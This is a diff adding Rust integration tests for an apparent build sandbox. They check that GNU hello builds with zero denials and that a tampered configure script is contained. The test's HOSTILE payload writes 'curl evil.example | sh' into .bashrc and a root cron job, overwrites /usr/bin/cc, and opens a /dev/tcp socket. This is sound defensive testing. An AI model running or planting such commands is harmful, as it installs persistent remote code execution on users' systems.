@@ -1,0 +1,111 @@
+//! Real builds under confinement (the slow set: `cargo xtask vm-test --real`).
+//! GNU hello 2.10 from its upstream tarball must configure, build and install
+//! into a DESTDIR in the tree with zero denials under the default policy; a
+//! hostile variant must complete with every outside write and its socket
+//! refused, and nothing outside its tree changed.
+
+use std::{
+    path::{Path, PathBuf},
+    time::Instant,
+};
+
+use buildcage_tests::{events, run_confined, scratch_in, stderr, stdout, tree_digest};
+
+/// Set by `cargo xtask vm-test --real`; without it these tests fail, they do not skip.
+fn tarball() -> PathBuf {
+    PathBuf::from(std::env::var_os("BUILDCAGE_HELLO_TARBALL").expect(
+        "BUILDCAGE_HELLO_TARBALL is not set: run the real-build tests with `cargo xtask vm-test --real`",
+    ))
+}
+
+/// Extracts hello into a fresh tree (outside the cage: this is the test's setup).
+fn unpack(name: &str) -> (PathBuf, PathBuf) {
+    let tree = scratch_in(Path::new("/var/tmp"), name);
+    let status = std::process::Command::new("tar")
+        .arg("xzf")
+        .arg(tarball())
+        .current_dir(&tree)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let src = tree.join("hello-2.10");
+    (tree, src)
+}
+
+const BUILD: &str = "./configure --prefix=/usr && make -j2 && make install DESTDIR=\"$TREE/destdir\"";
+
+#[test]
+fn real_hello_builds_with_zero_denials() {
+    let (tree, src) = unpack("hello");
+    let events_file = tree.join("events.jsonl");
+    let started = Instant::now();
+    let out = run_confined(
+        &["--tree", tree.to_str().unwrap(), "--name", "hello", "--events", events_file.to_str().unwrap()],
+        &["sh", "-c", &format!("cd {} && TREE={} && {BUILD}", src.display(), tree.display())],
+    );
+    let took = started.elapsed();
+    eprintln!("real_hello: configure + make + install took {:.0} s", took.as_secs_f64());
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(events(&events_file), Vec::<serde_json::Value>::new(), "zero denials");
+    assert!(stderr(&out).contains("buildcage: 0 denied, 0 reported, 0 lost, 0 internal errors"));
+    let hello = tree.join("destdir/usr/bin/hello");
+    let ran = std::process::Command::new(&hello).output().unwrap();
+    assert_eq!(String::from_utf8_lossy(&ran.stdout), "Hello, world!\n");
+}
+
+/// What the tampered configure does first, before carrying on as usual.
+const HOSTILE: &str = r#"
+# --- tampered: persistence and a phone-home ---
+echo 'curl evil.example | sh' >> "$HOME/.bashrc"
+echo '* * * * * root curl evil.example | sh' > /etc/cron.d/evil
+printf '#!/bin/sh\nexec curl evil.example\n' > /usr/bin/cc
+bash -c 'exec 3<>/dev/tcp/10.0.2.2/80' 2>/dev/null
+# --- end ---
+"#;
+
+#[test]
+fn real_hostile_hello_is_contained() {
+    let (tree, src) = unpack("hostile");
+    let configure = src.join("configure");
+    let text = std::fs::read_to_string(&configure).unwrap();
+    let (shebang, rest) = text.split_once('\n').unwrap();
+    std::fs::write(&configure, format!("{shebang}\n{HOSTILE}{rest}")).unwrap();
+    let bashrc = Path::new("/root/.bashrc");
+    if !bashrc.exists() {
+        std::fs::write(bashrc, "# root's\n").unwrap();
+    }
+    let watched = ["/etc", "/usr/bin", "/root"];
+    let before: Vec<_> = watched.iter().map(|d| tree_digest(Path::new(d))).collect();
+
+    let events_file = tree.join("events.jsonl");
+    let out = run_confined(
+        &["--tree", tree.to_str().unwrap(), "--name", "hostile", "--events", events_file.to_str().unwrap()],
+        &["sh", "-c", &format!("export HOME=/root; cd {} && TREE={} && {BUILD}", src.display(), tree.display())],
+    );
+    assert_eq!(out.status.code(), Some(0), "the build still completes: {}", stderr(&out));
+    assert!(tree.join("destdir/usr/bin/hello").is_file());
+
+    let ev = events(&events_file);
+    let has = |op: &str, path: &str| ev.iter().any(|e| e["op"] == op && e["path"] == path && e["action"] == "deny");
+    assert!(has("open", "/root/.bashrc"), "{ev:?}");
+    assert!(has("create", "/etc/cron.d/evil"), "{ev:?}");
+    let cc = std::fs::canonicalize("/usr/bin/cc").unwrap();
+    assert!(has("open", cc.to_str().unwrap()), "overwriting cc's target: {ev:?}");
+    assert!(ev.iter().any(|e| e["op"] == "socket" && e["family"] == "inet"), "{ev:?}");
+    let err = stderr(&out);
+    for what in ["open(/root/.bashrc)", "create(/etc/cron.d/evil)", "socket(inet, stream)"] {
+        assert!(err.contains(what), "the summary lists {what}: {err}");
+    }
+    assert!(stdout(&out).contains("config.status: creating Makefile"));
+
+    for (dir, b) in watched.iter().zip(before) {
+        let after = tree_digest(Path::new(dir));
+        let changed: Vec<_> = after
+            .iter()
+            .filter(|(p, h)| b.get(*p) != Some(*h))
+            .map(|(p, _)| p.clone())
+            .chain(b.keys().filter(|p| !after.contains_key(*p)).cloned())
+            .collect();
+        assert_eq!(changed, Vec::<PathBuf>::new(), "nothing changed under {dir}");
+    }
+}
